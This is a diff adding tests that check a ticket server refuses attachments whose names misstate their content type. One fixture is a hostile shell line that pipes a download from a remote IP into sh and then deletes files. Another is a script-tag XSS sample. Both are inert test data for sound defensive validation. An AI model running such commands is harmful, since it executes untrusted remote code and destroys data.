@@ -235,7 +235,7 @@ describe('who may download', () => {
   });
 
   it('once on a ticket: that organisation and support staff, never another organisation', async () => {
-    const bytes = new Uint8Array(randomBytes(4096));
+    const bytes = new Uint8Array([...Buffer.from('%PDF-1.7\n'), ...randomBytes(4096)]);
     const hash = await upload(bytes, manager);
     const created = await push(manager, 'ticket.create', {
       ticketId: randomUUID(),
@@ -316,5 +316,157 @@ describe('who may download', () => {
     expect((await read('GET', hash, otherTechnician)).status).toBe(200);
     expect((await read('GET', hash, manager)).status).toBe(404);
     expect((await read('GET', hash, colleague)).status).toBe(404);
+  });
+});
+
+describe('names checked against content when a message is applied', () => {
+  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...randomBytes(900)]);
+  const realPdf = new Uint8Array([...Buffer.from('%PDF-1.4\n'), ...randomBytes(900)]);
+  // No "#!" line, so the upload itself takes it: only its name lies.
+  const script = new Uint8Array(Buffer.from('curl -s http://203.0.113.9/x | sh\nrm -rf ~/gate\n'));
+  const ref = (bytes: Uint8Array, name: string, contentType: string) => ({
+    sha256: sha256(bytes),
+    name,
+    size: bytes.length,
+    contentType,
+  });
+  let ticketId: string;
+
+  beforeAll(async () => {
+    ticketId = randomUUID();
+    const created = await push(manager, 'ticket.create', {
+      ticketId,
+      productLine: 'pti_hardware',
+      category: 'technical',
+      priority: 'normal',
+      subject: 'Gate 3 camera',
+      description: 'The camera at gate 3 shows nothing at night.',
+    });
+    expect(created.status).toBe('applied');
+    for (const bytes of [png, realPdf, script]) await upload(bytes, manager);
+  });
+
+  const messagesOfTicket = async () =>
+    (
+      await server.db
+        .selectFrom('messages')
+        .select('id')
+        .where('ticket_id', '=', ticketId)
+        .execute()
+    ).length;
+  const reply = (attachment: ReturnType<typeof ref>) =>
+    push(manager, 'ticket.reply', {
+      ticketId,
+      messageId: randomUUID(),
+      body: 'Photo of the camera attached.',
+      attachments: [attachment],
+    });
+
+  it('records the first bytes of each upload with the file', async () => {
+    const row = await server.db
+      .selectFrom('blobs')
+      .select('head')
+      .where('sha256', '=', sha256(png))
+      .executeTakeFirstOrThrow();
+    expect(new Uint8Array(row.head!)).toEqual(png.subarray(0, 16));
+  });
+
+  it('refuses a script named photo.png, saying what it is not, and adds no message', async () => {
+    const before = await messagesOfTicket();
+    const result = await reply(ref(script, 'photo.png', 'image/png'));
+    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
+    expect(result.message).toMatch(
+      /^photo\.png was refused: its content is not a PNG image\. Attach it under its real type/,
+    );
+    expect(await messagesOfTicket()).toBe(before);
+  });
+
+  it('refuses a PNG named .pdf, and a new ticket carrying it is not created', async () => {
+    const result = await reply(ref(png, 'wiring.pdf', 'application/pdf'));
+    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
+    expect(result.message).toMatch(/wiring\.pdf was refused: its content is not a PDF document/);
+
+    const newTicket = randomUUID();
+    const created = await push(manager, 'ticket.create', {
+      ticketId: newTicket,
+      productLine: 'pti_hardware',
+      category: 'technical',
+      priority: 'low',
+      subject: 'Wiring',
+      description: 'Diagram attached.',
+      attachments: [ref(png, 'wiring.pdf', 'application/pdf')],
+    });
+    expect(created).toMatchObject({ status: 'rejected', code: 'invalid_args' });
+    const found = await server.db
+      .selectFrom('tickets')
+      .select('id')
+      .where('id', '=', newTicket)
+      .executeTakeFirst();
+    expect(found).toBeUndefined();
+  });
+
+  it('takes a real PNG named .png and a real PDF named .pdf', async () => {
+    const before = await messagesOfTicket();
+    expect(await reply(ref(png, 'camera.PNG', 'image/png'))).toMatchObject({ status: 'applied' });
+    expect(await reply(ref(realPdf, 'manual.pdf', 'application/pdf'))).toMatchObject({
+      status: 'applied',
+    });
+    expect(await messagesOfTicket()).toBe(before + 2);
+  });
+
+  it('names every lying file of a message, and the rest of the push goes through', async () => {
+    const refusedId = randomUUID();
+    const keptId = randomUUID();
+    const mutation = (messageId: string, attachments: ReturnType<typeof ref>[]) => ({
+      id: randomUUID(),
+      name: 'ticket.reply',
+      args: { ticketId, messageId, body: `Reply ${messageId}`, attachments },
+      baseVersion: null,
+    });
+    const response = await api.post(
+      '/sync/v1/push',
+      {
+        clientId: randomUUID(),
+        mutations: [
+          mutation(refusedId, [
+            ref(png, 'gate.png', 'image/png'),
+            ref(script, 'keypad.jpg', 'image/jpeg'),
+            ref(png, 'log.pdf', 'application/pdf'),
+          ]),
+          mutation(keptId, [ref(script, 'notes.txt', 'text/plain')]),
+        ],
+      },
+      manager,
+    );
+    const results = response.body.results as { status: string; message?: string }[];
+    expect(results.map((r) => r.status)).toEqual(['rejected', 'applied']);
+    expect(results[0]!.message).toMatch(/keypad\.jpg was refused: its content is not a JPG image/);
+    expect(results[0]!.message).toMatch(/log\.pdf was refused: its content is not a PDF document/);
+    expect(results[0]!.message).not.toMatch(/gate\.png/);
+    const stored = await server.db
+      .selectFrom('messages')
+      .select('id')
+      .where('id', 'in', [refusedId, keptId])
+      .execute();
+    expect(stored.map((m) => m.id)).toEqual([keptId]);
+  });
+
+  it('checks a file stored before first bytes were recorded, from disk, and records them', async () => {
+    const older = new Uint8Array(Buffer.from('<html><script>alert(1)</script></html>'));
+    await upload(older, manager);
+    await server.db
+      .updateTable('blobs')
+      .set({ head: null })
+      .where('sha256', '=', sha256(older))
+      .execute();
+    const result = await reply(ref(older, 'scan.gif', 'image/gif'));
+    expect(result).toMatchObject({ status: 'rejected', code: 'invalid_args' });
+    expect(result.message).toMatch(/scan\.gif was refused: its content is not a GIF image/);
+    const row = await server.db
+      .selectFrom('blobs')
+      .select('head')
+      .where('sha256', '=', sha256(older))
+      .executeTakeFirstOrThrow();
+    expect(new Uint8Array(row.head!)).toEqual(older.subarray(0, 16));
   });
 });
